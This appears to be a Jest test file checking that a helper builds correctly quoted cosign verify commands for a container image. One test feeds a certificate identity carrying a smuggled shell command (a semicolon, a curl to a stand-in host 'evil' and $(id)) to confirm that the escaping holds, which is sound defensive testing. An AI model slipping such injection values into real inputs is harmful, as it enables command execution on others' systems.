import { expect, test } from '@jest/globals';
import { exact } from '@tidegate/core';
import { verifyCommands } from './verify-commands.ts';

const REFERENCE = 'ghcr.io/acme/app@sha256:00';

test('keyless: the reader is told whom to expect, exactly', () => {
  const subject = exact('https://github.com/acme/app/.github/workflows/release.yml@refs/tags/v1.2.3');
  const issuer = exact('https://token.actions.githubusercontent.com');
  expect(verifyCommands(REFERENCE, { identities: [{ subject, issuer }] })[0]).toBe(
    `cosign verify --certificate-identity ${subject.kind === 'exact' ? subject.value : ''} --certificate-oidc-issuer https://token.actions.githubusercontent.com ${REFERENCE}`,
  );
});

test('an identity that a shell would take for more than a word is one word', () => {
  const subject = exact("https://github.com/acme/app/.github/workflows/a.yml@refs/heads/x;curl 'evil'$(id)");
  const [command] = verifyCommands(REFERENCE, { identities: [{ subject, issuer: exact('https://issuer.example') }] });
  expect(command).toContain(
    `--certificate-identity 'https://github.com/acme/app/.github/workflows/a.yml@refs/heads/x;curl '\\''evil'\\''$(id)' --`,
  );
});

test('with a key: the key, and that no log entry is asked for', () => {
  expect(verifyCommands(REFERENCE, {})[0]).toBe(
    `cosign verify --key cosign.pub --insecure-ignore-tlog=true ${REFERENCE}`,
  );
});

test('with a key and a log: nothing is left out', () => {
  expect(verifyCommands(REFERENCE, { log: 'required' })[0]).toBe(`cosign verify --key cosign.pub ${REFERENCE}`);
});
